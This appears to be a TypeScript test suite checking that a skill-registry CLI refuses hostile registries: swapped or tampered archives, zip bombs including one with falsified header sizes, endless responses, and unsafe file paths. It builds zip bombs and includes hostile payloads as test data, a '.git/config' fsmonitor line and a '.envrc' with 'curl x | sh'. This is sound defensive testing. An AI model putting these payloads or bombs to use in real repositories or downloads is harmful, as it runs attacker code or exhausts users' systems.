// install against registries that lie: archives that differ from their digests, zip bombs (honest and lying
// about their sizes), endless or oversized answers, file lists with paths that cannot be installed or that
// would run the publisher's code, and a registry that gives no digests. Each is a small HTTP server here.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { zipSync } from 'fflate';
import { bundleArchive } from '../../src/domain/bundles.js';
import { skillMd } from '../helpers/app.js';
import { cli as run, json, parsed, testServer, type TestServer } from './run.js';

const digest = (bytes: string | Uint8Array) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
const bytes = (text: string) => new Uint8Array(Buffer.from(text));
const MD = skillMd({ name: 'bundled' });
const SCRIPT = 'print("extract")\n';

interface Served {
  version: string;
  /** The file list; left out of the answer when absent. */
  files?: { path: string; size: number; digest?: string }[];
  digest?: string;
  /** The SKILL.md served (MD when absent). */
  skillMd?: string;
  yanked?: boolean;
  /** The archive's bytes, or what to do with the response instead. */
  archive: Uint8Array | ((response: ServerResponse) => void);
  /** The skill's JSON, or what to do with the response instead. */
  skill?: (response: ServerResponse) => void;
}

/** A version as a correct registry serves it: files with digests, the archive's digest as the version's. */
function honest(version: string, files: Record<string, string>): Served {
  const archive = bundleArchive(
    MD,
    Object.entries(files).map(([path, text]) => ({ path, content: bytes(text) })),
  );
  return {
    version,
    files: Object.entries(files).map(([path, text]) => ({ path, size: Buffer.byteLength(text), digest: digest(text) })),
    digest: digest(archive),
    archive,
  };
}

/** Patches the uncompressed size of every entry (local header and central directory) of a ZIP. */
function claimSize(zip: Uint8Array, size: number): Uint8Array {
  const copy = new Uint8Array(zip);
  const view = new DataView(copy.buffer);
  for (let i = 0; i + 4 <= copy.length; i++) {
    const signature = view.getUint32(i, true);
    if (signature === 0x04034b50) view.setUint32(i + 22, size, true);
    if (signature === 0x02014b50) view.setUint32(i + 24, size, true);
  }
  return copy;
}

describe('install against a registry that lies', () => {
  let server: TestServer;
  let home: string;
  let served: Served;
  let root: string;
  let archiveBytesSent: number;
  const cli = (args: string[]) => run(home, ['--url', server.url, ...args]);

  before(async () => {
    server = await testServer((_request, response, path) => {
      const skill = {
        id: 'sk_bundled',
        name: 'bundled',
        agent_id: 'mallory',
        skill_md_content: served.skillMd ?? MD,
        latest_version: served.version,
        yanked: served.yanked ?? false,
        visibility: 'public',
        quality_score: 0.5,
        tags: [],
        domain: null,
        license: null,
        version: served.version,
        ...(served.files ? { files: served.files } : {}),
        ...(served.digest ? { digest: served.digest } : {}),
      };
      if (path === '/v1/skills/sk_bundled' || path === `/v1/skills/sk_bundled/versions/${served.version}`) {
        if (served.skill) served.skill(response);
        else json(response, 200, { data: skill });
      } else if (path === `/v1/skills/sk_bundled/versions/${served.version}/archive.zip`) {
        if (typeof served.archive === 'function') served.archive(response);
        else {
          archiveBytesSent += served.archive.length;
          response
            .writeHead(200, { 'content-type': 'application/zip', 'content-length': served.archive.length })
            .end(Buffer.from(served.archive));
        }
      } else json(response, 404, { error: { code: 'NOT_FOUND', message: `no ${path}` } });
    });
    home = mkdtempSync(join(tmpdir(), 'kreg-hostile-'));
  });
  beforeEach(() => {
    root = mkdtempSync(join(home, 'root-'));
    archiveBytesSent = 0;
  });
  after(async () => {
    await server.close();
    rmSync(home, { recursive: true, force: true });
  });

  /** Installs 1.0.0 honestly, so that a failure after it must leave it as it was. */
  async function installFirst(): Promise<void> {
    served = honest('1.0.0', { 'scripts/extract.py': SCRIPT, 'reference.md': 'old notes\n' });
    const first = await cli(['install', 'sk_bundled', '--root', root]);
    assert.equal(first.code, 0, first.stderr);
  }

  function assertUntouched(): void {
    assert.deepEqual(readdirSync(root).sort(), ['bundled', 'skills-lock.json'], 'no temporary folder is left behind');
    assert.deepEqual(readdirSync(join(root, 'bundled')).sort(), ['SKILL.md', 'reference.md', 'scripts']);
    assert.equal(readFileSync(join(root, 'bundled', 'reference.md'), 'utf8'), 'old notes\n');
    assert.equal(JSON.parse(readFileSync(join(root, 'skills-lock.json'), 'utf8')).skills.bundled.version, '1.0.0');
  }

  /** Every file under `folder` with its bytes, for a byte-for-byte comparison. */
  const snapshot = (folder: string): Record<string, string> =>
    Object.fromEntries(
      readdirSync(folder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => {
          const path = join(entry.parentPath, entry.name);
          return [path.slice(folder.length), readFileSync(path).toString('base64')];
        })
        .sort(([a], [b]) => (a! < b! ? -1 : 1)),
    );

  // A registry (or anyone on a plain-http path) that answers the pinned version with other content: without
  // a digest or file list, with a digest of its own, or with the pinned digest over another SKILL.md.
  const SWAPPED = skillMd({ name: 'bundled', description: 'Swapped in by the attacker.' });
  const swaps: [string, Partial<Served>, string, RegExp][] = [
    ['no digest and no file list', { files: undefined, digest: undefined }, 'DIGEST_MISSING', /gives no digest/],
    ['its own digest', { files: undefined, digest: digest(SWAPPED) }, 'LOCK_MISMATCH', /but skills-lock\.json pins/],
    ['the pinned digest over another SKILL.md', { files: undefined }, 'DIGEST_MISMATCH', /differs from the registry's/],
  ];

  it('installs what skills-lock.json pins only as pinned, leaving the folder byte for byte as it was otherwise', async () => {
    await installFirst();
    // A person's edit: the folder no longer has the pinned digest, so `install` reinstalls it from the lock.
    writeFileSync(join(root, 'bundled', 'reference.md'), 'my notes\n');
    const pinned = honest('1.0.0', { 'scripts/extract.py': SCRIPT, 'reference.md': 'old notes\n' });
    const before = snapshot(root);
    for (const [what, swap, code, message] of swaps) {
      for (const args of [['install'], ['install', 'sk_bundled'], ['install', 'sk_bundled@1.0.0', '--force']]) {
        served = { ...pinned, skillMd: SWAPPED, ...swap };
        const result = await cli(['--json', ...args, '--root', root]);
        assert.equal(result.code, 1, `${what}, ${args.join(' ')}: ${result.stdout}`);
        assert.equal(parsed(result).error.code, code, `${what}, ${args.join(' ')}`);
        assert.match(parsed(result).error.message, message);
        assert.deepEqual(snapshot(root), before, `${what}, ${args.join(' ')}: nothing changed`);
        assert.deepEqual(readdirSync(root).sort(), ['bundled', 'skills-lock.json'], 'no temporary folder');
      }
    }
    // The honest registry reinstalls the pinned content over the edit.
    served = pinned;
    const honestly = await cli(['install', '--root', root]);
    assert.equal(honestly.code, 0, honestly.stderr);
    assertUntouched();
  });

  it('writes nothing for a lock file whose pinned version the registry answers with other content', async () => {
    await installFirst();
    rmSync(join(root, 'bundled'), { recursive: true });
    for (const [what, swap, code] of swaps) {
      served = {
        ...honest('1.0.0', { 'scripts/extract.py': SCRIPT, 'reference.md': 'old notes\n' }),
        skillMd: SWAPPED,
        ...swap,
      };
      const result = await cli(['--json', 'install', '--root', root]);
      assert.equal(parsed(result).error.code, code, what);
      assert.deepEqual(readdirSync(root), ['skills-lock.json'], `${what}: nothing written`);
    }
  });

  it('leaves the installed version untouched, and no temporary folder, when the new archive differs from its digest', async () => {
    await installFirst();
    const good = honest('1.1.0', { 'scripts/extract.py': SCRIPT });
    served = {
      ...good,
      archive: bundleArchive(MD, [{ path: 'scripts/extract.py', content: bytes('print("tampered")\n') }]),
    };
    const tampered = await cli(['install', 'sk_bundled', '--root', root]);
    assert.equal(tampered.code, 1);
    assert.match(
      tampered.stderr,
      /the archive of version 1\.1\.0: the content's sha256 .* differs from the registry's digest/,
    );
    assertUntouched();
  });

  it('refuses a zip bomb from its declared sizes before inflating anything', async () => {
    await installFirst();
    const bomb = zipSync(
      { 'SKILL.md': bytes(MD), 'scripts/extract.py': new Uint8Array(32 * 1024 * 1024) },
      { level: 9 },
    );
    assert.ok(bomb.length < 64 * 1024, 'a small archive');
    served = {
      version: '1.1.0',
      files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }],
      digest: digest(bomb),
      archive: bomb,
    };
    const declared = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(declared.code, 1);
    assert.equal(parsed(declared).error.code, 'SIZE_MISMATCH');
    assert.match(
      parsed(declared).error.message,
      /says scripts\/extract\.py has 33554432 bytes, but the file list says 17/,
    );
    assertUntouched();

    // Sizes within every cap, but compressed a thousand to one: a bomb by its ratio.
    const dense = zipSync({ 'SKILL.md': bytes(MD), 'scripts/extract.py': new Uint8Array(400 * 1024) }, { level: 9 });
    served = {
      version: '1.1.0',
      files: [{ path: 'scripts/extract.py', size: 400 * 1024, digest: digest(new Uint8Array(400 * 1024)) }],
      digest: digest(dense),
      archive: dense,
    };
    const ratio = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(parsed(ratio).error.code, 'ZIP_BOMB');
    assertUntouched();
  });

  it('inflates no more than a lying archive declares, and refuses what comes out', async () => {
    await installFirst();
    // The central directory says 17 bytes (as the file list does); the data inflates to 32 MiB.
    const liar = claimSize(zipSync({ 'scripts/extract.py': new Uint8Array(32 * 1024 * 1024) }, { level: 9 }), 17);
    const archive = zipSync({ 'SKILL.md': [bytes(MD), { level: 0 }] });
    const merged = mergeZips(archive, liar);
    served = {
      version: '1.1.0',
      files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }],
      digest: digest(merged),
      archive: merged,
    };
    const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(result.code, 1);
    assert.match(parsed(result).error.code, /^(DIGEST_MISMATCH|ZIP_BOMB)$/);
    assertUntouched();
  });

  it('reads no more of an endless or oversized archive than the version can take', async () => {
    await installFirst();
    let written = 0;
    const endless = (response: ServerResponse) => {
      response.writeHead(200, { 'content-type': 'application/zip' });
      const chunk = Buffer.alloc(64 * 1024, 7);
      const pump = () => {
        while (!response.destroyed && written < 512 * 1024 * 1024 && response.write(chunk)) written += chunk.length;
        if (!response.destroyed && written < 512 * 1024 * 1024) response.once('drain', pump);
      };
      response.on('close', () => response.removeAllListeners('drain'));
      pump();
    };
    served = { ...honest('1.1.0', { 'scripts/extract.py': SCRIPT }), archive: endless };
    const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(result.code, 1);
    assert.equal(parsed(result).error.code, 'ANSWER_TOO_LARGE');
    assert.match(
      parsed(result).error.message,
      /^the archive of version 1\.1\.0 is larger than \d+ bytes; stopped reading it$/,
    );
    assert.ok(written < 64 * 1024 * 1024, `the server could write only ${written} bytes before the command hung up`);
    assertUntouched();

    served = {
      ...honest('1.1.0', { 'scripts/extract.py': SCRIPT }),
      archive: (response) =>
        response
          .writeHead(200, { 'content-type': 'application/zip', 'content-length': String(2 * 1024 ** 3) })
          .write(Buffer.alloc(1024)),
    };
    const declared = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.match(
      parsed(declared).error.message,
      /^the archive of version 1\.1\.0 is 2147483648 bytes, more than the \d+ expected; not downloaded$/,
    );
    assertUntouched();
  });

  it('reads a JSON answer with a byte cap', async () => {
    served = {
      ...honest('1.0.0', { 'scripts/extract.py': SCRIPT }),
      skill: (response) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.write('{"data":{"skill_md_content":"');
        const chunk = 'a'.repeat(64 * 1024);
        let sent = 0;
        const pump = () => {
          while (!response.destroyed && sent < 64 * 1024 * 1024 && response.write(chunk)) sent += chunk.length;
          if (!response.destroyed && sent < 64 * 1024 * 1024) response.once('drain', pump);
        };
        pump();
      },
    };
    const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(result.code, 1);
    assert.equal(parsed(result).error.code, 'ANSWER_TOO_LARGE');
    assert.deepEqual(readdirSync(root), []);
  });

  it('refuses file lists with paths that cannot be installed, or that would run code, writing nothing', async () => {
    const cases: [Record<string, string>, RegExp][] = [
      [{ a: 'x', 'a/b': 'y' }, /"a\/b" needs a folder "a", but "a" is a file \(rule file_folder_clash\)/],
      [{ 'SKILL.md/x': 'y' }, /needs a folder "SKILL\.md", but "SKILL\.md" is a file/],
      [{ 'A.md': 'x', 'a.md': 'y' }, /"a\.md" collides with "A\.md" \(rule case_collision\)/],
      [{ CON: 'x' }, /rule reserved_name/],
      [{ 'x.': 'x' }, /rule trailing_dot/],
      [
        { '.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' },
        /"\.git\/config" is version-control metadata \(\.git\).*\(rule vcs_metadata\)/,
      ],
      [{ '.envrc': 'curl x | sh\n' }, /rule tool_config/],
    ];
    const downloads = () => server.requests.filter((r) => r.endsWith('archive.zip')).length;
    const before = downloads();
    for (const [files, message] of cases) {
      served = honest('1.0.0', files);
      const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
      assert.equal(result.code, 1, JSON.stringify(files));
      assert.equal(parsed(result).error.code, 'UNSAFE_PATH');
      assert.match(parsed(result).error.message, message);
      assert.deepEqual(readdirSync(root), [], 'nothing was written');
      assert.equal(downloads(), before, 'not even downloaded');
    }
  });

  it('marks SKILL.md verified only when the registry gave a digest to check it against', async () => {
    served = { ...honest('1.0.0', { 'scripts/extract.py': SCRIPT }), digest: undefined };
    const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(
      parsed(result).files.map((f: { path: string; verified: boolean }) => [f.path, f.verified]),
      [
        ['SKILL.md', false],
        ['scripts/extract.py', true],
      ],
    );
    const elsewhere = mkdtempSync(join(home, 'root-'));
    const people = await cli(['install', 'sk_bundled', '--root', elsewhere]);
    assert.match(people.stdout, /2 files, sha256:[0-9a-f]{12}…, 1 of 2 verified by digest\n$/);
    assert.equal(statSync(join(elsewhere, 'bundled', 'SKILL.md')).isFile(), true);
    // The version is pinned now: reinstalling it needs a digest from the registry to hold the pin against.
    const again = await cli(['--json', 'install', 'sk_bundled', '--root', elsewhere, '--force']);
    assert.equal(parsed(again).error.code, 'DIGEST_MISSING');
  });
});

/** A ZIP with the entries of both (for an archive whose entries were made separately). */
function mergeZips(a: Uint8Array, b: Uint8Array): Uint8Array {
  const entries = (zip: Uint8Array) => {
    const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
    const end = zip.length - 22;
    const count = view.getUint16(end + 10, true);
    const cdOffset = view.getUint32(end + 16, true);
    const result: { local: Uint8Array; central: Uint8Array }[] = [];
    let at = cdOffset;
    for (let i = 0; i < count; i++) {
      const nameLength = view.getUint16(at + 28, true);
      const extra = view.getUint16(at + 30, true);
      const comment = view.getUint16(at + 32, true);
      const localOffset = view.getUint32(at + 42, true);
      const central = zip.slice(at, at + 46 + nameLength + extra + comment);
      const compressed = view.getUint32(at + 20, true);
      const localName = view.getUint16(localOffset + 26, true);
      const localExtra = view.getUint16(localOffset + 28, true);
      const local = zip.slice(localOffset, localOffset + 30 + localName + localExtra + compressed);
      result.push({ local, central });
      at += central.length;
    }
    return result;
  };
  const all = [...entries(a), ...entries(b)];
  const parts: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const { local, central } of all) {
    const c = new Uint8Array(central);
    new DataView(c.buffer).setUint32(42, offset, true);
    parts.push(local);
    centrals.push(c);
    offset += local.length;
  }
  const cdSize = centrals.reduce((s, c) => s + c.length, 0);
  const end = new Uint8Array(22);
  const view = new DataView(end.buffer);
  view.setUint32(0, 0x06054b50, true);
  view.setUint16(8, all.length, true);
  view.setUint16(10, all.length, true);
  view.setUint32(12, cdSize, true);
  view.setUint32(16, offset, true);
  return Buffer.concat([...parts, ...centrals, end]);
}
